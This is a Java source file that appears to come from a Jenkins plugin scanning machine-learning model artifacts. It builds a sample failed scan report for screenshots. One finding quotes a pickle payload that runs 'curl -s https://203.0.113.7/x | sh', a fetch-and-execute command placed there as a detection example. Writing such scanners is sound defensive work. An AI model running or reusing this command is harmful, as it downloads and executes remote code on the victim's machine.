package io.jenkins.plugins.modelgate.engine.report;

import io.jenkins.plugins.modelgate.engine.scan.ScanRules;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/** A report as it comes from a model repository of ordinary size with several things wrong, for the pictures. */
final class Showcase {
    private static final Random RANDOM = new Random(11);

    private Showcase() {}

    static Report report() {
        List<Artifact> files = new ArrayList<>();
        for (int i = 1; i <= 12; i++) {
            files.add(file("model-%05d-of-00012.safetensors".formatted(i), 4_900_000_000L, "safetensors"));
        }
        files.add(file("config.json", 1_204, "json"));
        files.add(file("generation_config.json", 184, "json"));
        files.add(file("gguf/model-q4_k_m.gguf", 4_368_439_584L, "gguf"));
        files.add(file("onnx/encoder.onnx", 186_000_444, "onnx"));
        files.add(file("optimizer.pt", 99_430_212, "pytorch-zip"));
        files.add(file("tokenizer.json", 9_085_657, "json"));
        files.add(new Artifact("legacy/vectorizer.pkl", 88_731, hex(), "pickle", Coverage.PARTIAL, true));
        files.add(new Artifact("README.md", 5_120, hex(), Artifact.UNKNOWN, Coverage.NONE, false));
        List<Finding> findings = new ArrayList<>();
        findings.add(Finding.of(
                Reports.UNSAFE,
                new Location("optimizer.pt", "archive/data.pkl", 317),
                "REDUCE calls posix.system with (\"curl -s https://203.0.113.7/x | sh\")"));
        findings.add(Finding.of(
                Reports.TRAILING,
                new Location("gguf/model-q4_k_m.gguf", null, 4_368_435_488L),
                "4096 bytes after the gguf"));
        for (String name : List.of("acme.text.Tokenizer", "acme.text.Stemmer", "acme.layers.Attention")) {
            findings.add(Finding.of(
                    Reports.UNKNOWN,
                    new Location("legacy/vectorizer.pkl", null, 40 + name.length()),
                    "imports " + name + ", which is on no list"));
        }
        findings.add(Finding.of(
                ScanRules.TRUNCATED, new Location("legacy/vectorizer.pkl", null, 88_731), "the pickle has no STOP"));
        findings.add(Finding.of(
                Reports.UNKNOWN,
                Severity.LOW,
                Location.ofFile(""),
                "two copies of the weights in two formats; loaders may take either"));
        Map<String, Object> metrics = new LinkedHashMap<>();
        metrics.put("signature", "none");
        return new Report(
                "verifyModelArtifact",
                Verdict.FAILED,
                new Subject("llama-finetune-7b", hex(), hex(), files.size(), 63_553_000_000L),
                findings,
                List.of(new Suppression(
                        Finding.of(Reports.UNKNOWN, Location.ofFile("legacy/scaler.pkl"), "imports acme.scale.Robust"),
                        "Our own class, reviewed in MG-12",
                        "2027-03-31")),
                files,
                metrics,
                "production",
                hex(),
                "1.0",
                "2026-11-23T10:00:00Z",
                "2026-11-23T10:00:52.345Z");
    }

    private static Artifact file(String path, long bytes, String format) {
        return new Artifact(path, bytes, hex(), format, Coverage.FULL, true);
    }

    private static String hex() {
        StringBuilder hex = new StringBuilder();
        for (int i = 0; i < 4; i++) {
            hex.append("%016x".formatted(RANDOM.nextLong()));
        }
        return hex.toString();
    }
}
